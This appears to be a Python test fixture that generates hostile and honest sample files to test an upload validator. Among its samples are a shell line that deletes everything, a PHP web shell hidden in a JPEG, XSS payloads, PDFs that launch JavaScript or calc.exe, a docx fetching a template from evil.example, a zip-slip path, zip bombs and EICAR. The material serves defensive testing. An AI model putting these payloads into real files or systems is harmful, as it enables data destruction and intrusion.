"""Seventy files that mean harm or pretend, and some that are what they say. Made here, kept nowhere."""

from __future__ import annotations

import io
import random
import struct
import zipfile
import zlib
from collections.abc import Iterator

from tests.papers.compressing import A85, compressed_pdf, in_a85, swollen
from tests.papers.scanning import EICAR


def jpeg(tail: bytes = b"", body: bytes = b"") -> bytes:
    """A grey square of one pixel, as a camera might begin it."""
    head = b"\xff\xd8\xff\xe0\x00\x10JFIF\x00\x01\x01\x00\x00\x01\x00\x01\x00\x00"
    return head + body + b"\x11" * 5000 + b"\xff\xd9" + tail


def png(wide: int = 1, high: int = 1, tail: bytes = b"", body: bytes = b"") -> bytes:
    """A picture with its chunks in order."""
    head = struct.pack(">IIBBBBB", wide, high, 8, 2, 0, 0, 0)
    parts = [(b"IHDR", head), (b"tEXt", body), (b"IDAT", zlib.compress(b"\0\x7f\x7f\x7f")), (b"IEND", b"")]
    made = b"\x89PNG\r\n\x1a\n"
    for name, content in parts:
        made += (
            struct.pack(">I", len(content)) + name + content + struct.pack(">I", zlib.crc32(name + content))
        )
    return made + tail


def pdf(inside: bytes = b"", tail: bytes = b"") -> bytes:
    """The bones of a PDF."""
    return (
        b"%PDF-1.7\n1 0 obj << /Type /Catalog " + inside + b" >> endobj\n" + b"%" * 5000 + b"\n%%EOF\n" + tail
    )


def archive(parts: dict[str, bytes], *, locked: bool = False) -> bytes:
    """A zip archive with these parts."""
    made = io.BytesIO()
    with zipfile.ZipFile(made, "w", zipfile.ZIP_DEFLATED) as zipped:
        for name, content in parts.items():
            zipped.writestr(name, content)
    raw = bytearray(made.getvalue())
    if locked:
        for sign, flags in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
            at = raw.find(sign)
            while at >= 0:
                raw[at + flags] |= 1
                at = raw.find(sign, at + 4)
    return bytes(raw)


WORD = {
    "[Content_Types].xml": b"<Types/>",
    "word/document.xml": b"<document/>",
    "word/_rels/document.xml.rels": b"<R/>",
}
OPEN_TEXT = {"mimetype": b"application/vnd.oasis.opendocument.text", "content.xml": b"<content/>"}
FETCHES = (
    b'<Relationship Type="x/attachedTemplate" Target="http://evil.example/t.dotm" TargetMode="External"/>'
)
MESSAGE = b"From: a@school.example\r\nTo: b@school.example\r\nSubject: Seen\r\n\r\nWhat was written.\r\n"


def isobmff(brand: bytes) -> bytes:
    """The beginning of a film, a sound or a HEIC picture."""
    return b"\x00\x00\x00\x18ftyp" + brand + b"\x00\x00\x00\x00" + brand + b"mif1" + b"\x00" * 5000


def photographs(count: int) -> Iterator[bytes]:
    """Pages of a scan, about a megabyte each, as they lie in a PDF."""
    drawn = random.Random(7)
    for number in range(count):
        seen = jpeg(body=drawn.randbytes(1_000_000).replace(b"MZ", b"mz"))
        head = b"%d 0 obj << /Subtype /Image /Filter /DCTDecode /Length %d >>" % (100 + number, len(seen))
        yield head + b" stream\n" + seen + b"\nendstream endobj\n"


HONEST: dict[str, bytes] = {
    "scan.pdf": pdf(),
    "screen shot.png": png(600, 800),
    "IMG_0042.JPG": jpeg(),
    "with a trailer.jpg": jpeg(tail=b"SEFT" + b"\x01" * 300),
    "photo.heic": isobmff(b"heic"),
    "letter.docx": archive(WORD),
    "letter.odt": archive(OPEN_TEXT),
    "message.eml": MESSAGE,
    "old message.eml": MESSAGE + b"na\xefve\r\n",
    "notes.txt": "What Zoë said – word for word\n".encode() * 400,
    "chat.csv": b"when,who,what\n2026-11-02,one,hello\n",
    "clip.mp4": isobmff(b"isom"),
    "voice mail.m4a": b"\x00\x00\x00\x18ftypM4A \x00\x00\x00\x00M4A mp42" + b"\x00" * 5000,
    "voice.mp3": b"ID3\x03\x00\x00\x00\x00\x00\x0f" + b"\x00" * 5000,
    "note.wav": b"RIFF\x24\x10\x00\x00WAVEfmt " + b"\x00" * 5000,
    "voice.ogg": b"OggS\x00\x02" + b"\x00" * 5000,
    "wrongly named.jpg": png(20, 20),
    "no ending": pdf(),
    "modern.pdf": compressed_pdf(),
    "starts at a page.pdf": compressed_pdf(b"/OpenAction [3 0 R /Fit]"),
    "a large scan.pdf": compressed_pdf(beside=b"".join(photographs(40))),
}
"""What must be taken, so that refusing everything is no way to pass."""


def hostile() -> Iterator[tuple[str, bytes]]:
    """Names and contents, each another trick."""
    program = b"MZ\x90\x00" + b"\x00" * 60 + b"This program cannot be run in DOS mode.\r\r\n$" + b"\0" * 3000
    # programs and pages under an honest name
    for name in ("scan.pdf", "photo.jpg", "photo.png", "letter.docx", "film.mp4", "voice.mp3", "notes.txt"):
        yield name, program
    yield "photo.jpg", b"\x7fELF\x02\x01\x01" + b"\0" * 5000
    for name in ("photo.png", "scan.pdf", "notes.txt", "list.csv"):
        yield name, b"<html><script>alert(1)</script></html>"
    yield "photo.png", b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>'
    yield "notes.txt", b"\xef\xbb\xbf  <!DOCTYPE html><body onload=alert(1)>"
    yield "notes.txt", b"#!/bin/sh\nrm -rf /\n"
    yield "notes.txt", b"{\\rtf1\\ansi\\objdata 01050000}"
    yield "message.eml", b"<html><body>no message</body></html>"
    # honest content under a dangerous name
    for name in (
        "scan.pdf.exe",
        "scan.js",
        "page.html",
        "drawing.svg",
        "run.bat",
        "link.lnk",
        "macro.docm",
        "x.hta",
    ):
        yield name, pdf()
    yield "n" * 500 + ".pdf", pdf()
    # two things at once
    yield "photo.jpg", jpeg(tail=archive({"a.txt": b"x"}))
    yield "photo.jpg", jpeg(body=b"<?php system($_GET['c']); ?>")
    yield "photo.jpg", jpeg(tail=b"<script>alert(document.domain)</script>")
    yield "photo.jpg", jpeg(tail=program)
    yield "photo.png", png(tail=b"trailing")
    yield "photo.png", png(tail=archive({"a.class": b"x"}))
    yield "photo.png", png(body=b"c\0<!DOCTYPE html><script>alert(1)</script>")
    yield "scan.pdf", pdf(tail=archive({"a.txt": b"x"}))
    yield "scan.pdf", b"junk before the beginning\n" + pdf()
    yield "scan.pdf", pdf(inside=b"<script>alert(1)</script>")
    yield "voice.mp3", HONEST["voice.mp3"] + archive({"a.txt": b"x"})
    yield "clip.mp4", HONEST["clip.mp4"] + archive({"a.txt": b"x"})
    # PDFs that do something
    for inside in (
        b"/OpenAction << /S /JavaScript >>",
        b"/AA << /S /Launch >>",
        b"/Names << /EmbeddedFile 3 0 R >>",
        b"/OpenAction << /S /Java#53cript >>",
        b"/AA << /S /#4C#61#75#6e#63#68 >>",
    ):
        yield "scan.pdf", pdf(inside=inside)
    yield "scan.pdf", pdf(inside=b"/RichMedia 1 0 R")
    # the same where no word of the file shows it: in objects that are compressed
    program_inside = b"/OpenAction << /S /JavaScript /JS (app.alert) >>"
    for inside in (
        program_inside,
        b"/OpenAction << /S /Java#53cript >>",
        b"/AA << /O << /S /Launch /F (calc.exe) >> >>",
        b"/Names << /EmbeddedFiles << /Names [(a) << /EF << /F 9 0 R >> >>] >> >>",
        b"/Annots [<< /Subtype /RichMedia >>]",
    ):
        yield "scan.pdf", compressed_pdf(inside)
    yield "scan.pdf", compressed_pdf(program_inside, table=False)
    yield "scan.pdf", compressed_pdf(program_inside, table=False, sort=b"/Type /Obj#53tm")
    yield "scan.pdf", compressed_pdf(program_inside, sort=b"")
    yield "scan.pdf", compressed_pdf(program_inside, packed=in_a85, says=A85)
    yield "scan.pdf", compressed_pdf(program_inside, packed=in_a85, says=A85, table=False)
    # and what is too much work, or broken where it cannot be looked into
    yield "scan.pdf", compressed_pdf(packed=swollen)
    yield "scan.pdf", compressed_pdf(packed=swollen, sort=b"")
    yield "scan.pdf", compressed_pdf(packed=lambda text: zlib.compress(text)[5:])
    yield "scan.pdf", compressed_pdf()[:200] + b"\n%%EOF\n"
    yield "scan.pdf", pdf(tail=b"/Type /ObjStm /Filter /FlateDecode" + b" " * 500 + b"%%EOF\n")
    yield "scan.pdf", pdf(inside=b"/Encrypt 9 0 R")
    # documents that do something, or burst
    yield "letter.docx", archive(WORD | {"word/vbaProject.bin": b"x"})
    yield "letter.docx", archive(WORD | {"word/embeddings/oleObject1.bin": b"x"})
    yield "letter.docx", archive(WORD | {"word/_rels/settings.xml.rels": FETCHES})
    yield "letter.docx", archive(WORD | {"word/media/a.xml": b"\0" * 60_000_000})
    yield "letter.docx", archive(WORD | {f"word/{number}.xml": b"" for number in range(2100)})
    yield "letter.docx", archive(WORD | {"../../etc/cron.d/x": b"x"})
    yield "letter.docx", archive(WORD, locked=True)
    yield "letter.docx", archive({"xl/workbook.xml": b"<w/>", "[Content_Types].xml": b"x"})
    yield "letter.docx", archive(WORD)[:-30]
    yield "letter.odt", archive(OPEN_TEXT | {"Basic/Standard/Module1.xml": b"x"})
    yield "letter.odt", archive(OPEN_TEXT | {"mimetype": b"application/java-archive"})
    yield "bomb.zip", archive({"a": b"\0" * 50_000_000})
    # not what they say, not whole, not of this world
    yield "photo.jpg", jpeg()[:3000]
    yield "photo.png", png(10, 10)[:-20]
    yield "photo.png", png(60_000, 60_000)
    yield "photo.png", b"\x89PNG\r\n\x1a\n" + b"\0" * 5000
    yield "scan.pdf", pdf()[:3000]
    yield "scan.pdf", b""
    yield "notes.txt", b"abc\x00def"
    yield "notes.txt", "naïve".encode("latin-1") * 50
    yield "notes.txt", b"\xff\xfe" + "wide".encode("utf-16-le") * 50
    yield "old.doc", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 5000
    yield "letter.docx", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 5000
    yield "photo.png", b"GIF89a" + b"\0" * 5000
    yield "scan.pdf", b"II*\x00" + b"\0" * 5000
    yield "photo.jpg", b"Rar!\x1a\x07\x01\x00" + b"\0" * 5000
    yield "scan.pdf", b"\x1f\x8b\x08\x00" + b"\0" * 5000
    # the virus that every scanner knows
    yield "notes.txt", EICAR
    yield "message.eml", MESSAGE + b"\r\n" + EICAR
